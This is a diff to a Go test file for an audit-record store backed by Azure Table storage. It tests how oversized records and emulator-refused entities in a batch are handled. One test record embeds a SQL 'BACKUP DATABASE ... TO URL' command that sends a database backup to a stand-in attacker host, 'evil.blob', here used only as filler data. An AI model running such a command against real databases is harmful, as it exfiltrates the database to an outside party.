@@ -542,26 +542,74 @@ func TestAzuriteClaimRace(t *testing.T) {
 	}
 }
 
-// TestAzuriteTooLargeRecord: a record that cannot fit one entity is
-// reported, never cut, and does not keep the others from being stored.
+// TestAzuriteTooLargeRecord: a record too large for one entity (a
+// 600,000-character statement, about 1.2 MB as the service counts it) is
+// stored whole across its row and continuation entities, between two
+// ordinary records, and read back whole; the continuation entities are no
+// rows.
 func TestAzuriteTooLargeRecord(t *testing.T) {
 	s := newTestStore(t)
 	ctx := context.Background()
 	recs := testRecords("f.xel", time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC), 3)
-	recs[1].Statement = strings.Repeat("x", 600_000)
-	n, err := s.UpsertRecords(ctx, "srv1", "db1", "b", recs)
-	if n != 2 || !errors.Is(err, ErrTooLarge) {
-		t.Fatalf("UpsertRecords = %d, %v; want 2 rows and ErrTooLarge", n, err)
+	recs[1].Statement = "BACKUP DATABASE [db1] TO URL = 'https://evil.blob.core.windows.net/c/x.bak' /*" +
+		strings.Repeat("x<&>😀", 120_000) + "*/ WITH COPY_ONLY"
+	recs[1].AdditionalInformation = strings.Repeat("<a/>", 40_000)
+	rep, err := s.UpsertRecordsReport(ctx, "srv1", "db1", "b", recs)
+	if err != nil || rep.Rows != 3 || len(rep.Degraded) != 0 || len(rep.Dropped) != 0 {
+		t.Fatalf("UpsertRecordsReport = %+v, %v; want 3 rows whole", rep, err)
 	}
-	var re *RecordError
-	if !errors.As(err, &re) || re.AuditFileOffset != recs[1].AuditFileOffset || re.EventIndex != recs[1].EventIndex || re.FileName != "f.xel" {
-		t.Fatalf("RecordError = %+v", re)
+	for round := range 2 { // a replay gives the same rows
+		got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
+		if len(got) != 3 {
+			t.Fatalf("round %d: %d rows, want 3", round, len(got))
+		}
+		for i, r := range got {
+			if want := wantRecord(recs[i]); !recordsEqual(r.Record, want) || r.Degraded != "" {
+				t.Fatalf("round %d row %d: statement %d bytes (want %d), degraded %q", round, i, len(r.Record.Statement), len(want.Statement), r.Degraded)
+			}
+		}
+		if _, err := s.UpsertRecords(ctx, "srv1", "db1", "b", recs); err != nil {
+			t.Fatal(err)
+		}
 	}
-	if IsTransient(err) {
-		t.Fatal("too large reported as transient")
+	// With an action filter (continuation entities have no action_id).
+	got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1", ActionID: recs[1].ActionID})
+	if len(got) != 1 || got[0].Record.Statement != recs[1].Statement {
+		t.Fatalf("filtered query: %d rows", len(got))
 	}
-	got := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
-	if len(got) != 2 || got[0].Record.EventIndex != recs[0].EventIndex || got[1].Record.EventIndex != recs[2].EventIndex {
-		t.Fatalf("stored %d rows", len(got))
+}
+
+// TestAzuriteRefusedEntityInBatch: the emulator refuses one entity of a
+// transaction (1.2 MB of JSON: 400 EntityTooLarge); the other entities of
+// the transaction are written, and the refusal is recorded for its
+// record, not returned.
+func TestAzuriteRefusedEntityInBatch(t *testing.T) {
+	s := newTestStore(t)
+	ctx := context.Background()
+	recs := testRecords("f.xel", time.Date(2026, 11, 21, 4, 0, 0, 0, time.UTC), 3)
+	var ents []Entity
+	for i, rec := range recs {
+		e, _ := BuildRecord("srv1", "db1", "b", time.Now(), rec)
+		e[0].rec = i + 1
+		ents = append(ents, e[0])
+	}
+	// An entity the emulator refuses, whatever our estimate says.
+	big := map[string]any{"PartitionKey": ents[1].PartitionKey, "RowKey": ents[1].RowKey}
+	for i := range 40 {
+		big[fmt.Sprintf("p%d", i)] = strings.Repeat("x", 30_000)
+	}
+	ents[1].JSON, _ = json.Marshal(big)
+	ref := &refusals{m: map[int]error{}}
+	n, err := s.upsertInto(ctx, s.events, "rows", ents, ref)
+	if err != nil || n != 2 {
+		t.Fatalf("upsertInto = %d, %v; want 2 written, no error", n, err)
+	}
+	if got := ref.sorted(); len(got) != 1 || got[0] != 2 || !refusedEntity(ref.m[2]) {
+		t.Fatalf("refused %v (%v), want record 2", got, ref.m)
+	}
+	t.Logf("refusal: %v", ref.m[2])
+	rows := collectRows(t, s, EventQuery{Server: "srv1", Database: "db1"})
+	if len(rows) != 2 || rows[0].Record.EventIndex != recs[0].EventIndex || rows[1].Record.EventIndex != recs[2].EventIndex {
+		t.Fatalf("%d rows stored", len(rows))
 	}
 }
